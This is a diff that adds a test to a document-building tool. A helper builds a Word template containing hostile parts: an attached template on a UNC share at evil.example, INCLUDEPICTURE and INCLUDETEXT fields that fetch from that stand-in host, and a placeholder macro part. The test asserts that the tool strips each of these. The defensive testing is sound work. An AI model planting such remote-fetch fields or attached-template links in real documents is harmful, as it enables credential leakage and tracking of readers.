@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import re
 import shutil
 import textwrap
+import zipfile
 from pathlib import Path
 
 import docx
@@ -169,3 +171,76 @@ def test_template_style_reaches_the_word_output(tmp_path):
     assert [p.text for p in result.sections[0].header.paragraphs] == ["HOUSE HEADER", "SECRET"]
     assert "template body text that must not survive" not in [p.text for p in result.paragraphs]
     assert [p.text for p in result.paragraphs][:2] == ["T", "H"]
+
+
+def hostile_template(path: Path) -> None:
+    """A Word template that would fetch from elsewhere and run code in every pack built on it."""
+    from docx.opc.constants import RELATIONSHIP_TYPE as RT
+    from docx.opc.packuri import PackURI
+    from docx.opc.part import Part
+    from docx.oxml import OxmlElement
+    from docx.oxml.ns import qn
+
+    template = docx.Document()
+    assert template.settings is not None  # makes the settings part if the document has none
+    settings = template.part.part_related_by(RT.SETTINGS)
+    attached_type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+    rel_id = settings.relate_to(r"\\evil.example\share\x.dotm", attached_type, is_external=True)
+    attached = OxmlElement("w:attachedTemplate")
+    attached.set(qn("r:id"), rel_id)
+    settings.element.append(attached)
+    header = template.sections[0].header.paragraphs[0]
+    header.add_run("HOUSE HEADER")
+    runs = []
+    for kind, text in (("begin", None), (None, ' INCLUDEPICTURE "http://evil.example/p.png" \\d '), ("end", None)):
+        run = OxmlElement("w:r")
+        if kind:
+            mark = OxmlElement("w:fldChar")
+            mark.set(qn("w:fldCharType"), kind)
+            run.append(mark)
+        else:
+            instr = OxmlElement("w:instrText")
+            instr.text = text
+            run.append(instr)
+        runs.append(run)
+    for run in runs:
+        header._p.append(run)
+    simple = OxmlElement("w:fldSimple")
+    simple.set(qn("w:instr"), r'INCLUDETEXT "\\evil.example\share\x.docx"')
+    header._p.append(simple)
+    macros = Part(
+        PackURI("/word/vbaProject.bin"), "application/vnd.ms-office.vbaProject", b"\0" * 64, template.part.package
+    )
+    template.part.relate_to(macros, "http://schemas.microsoft.com/office/2006/relationships/vbaProject")
+    template.save(path)
+
+
+def test_a_word_template_brings_its_look_and_nothing_that_fetches_or_runs(tmp_path, capsys):
+    path = tmp_path / "house.docx"
+    hostile_template(path)
+    spec = tmp_path / "brief.yaml"
+    spec.write_text("title: T\n" + BODY)
+    out = tmp_path / "out"
+    assert main(["build", str(spec), "--docx-template", str(path), "--format", "docx", "--out", str(out)]) == 0
+    warnings = capsys.readouterr().err
+    for dropped in (
+        "a link to '\\\\evil.example\\share\\x.dotm' (an attached template)",
+        "macros",
+        "a field that fetches (INCLUDEPICTURE)",
+        "a field that fetches (INCLUDETEXT)",
+    ):
+        assert f"docx: dropped from the Word template: {dropped}" in warnings
+    with zipfile.ZipFile(out / "brief.docx") as package:
+        names = package.namelist()
+        xml = {name: package.read(name).decode("utf-8") for name in names if name.endswith((".xml", ".rels"))}
+    assert not any("vbaProject" in name for name in names)
+    external = [
+        (name, m.group(0))
+        for name, text in xml.items()
+        if name.endswith(".rels")
+        for m in re.finditer(r"<Relationship [^>]*TargetMode=\"External\"[^>]*>", text)
+    ]
+    assert all("relationships/hyperlink" in rel for _, rel in external), external
+    assert not any(word in text for text in xml.values() for word in ("INCLUDEPICTURE", "INCLUDETEXT", "evil.example"))
+    assert not any("attachedTemplate" in text for text in xml.values())
+    assert "HOUSE HEADER" in [p.text for p in docx.Document(str(out / "brief.docx")).sections[0].header.paragraphs]
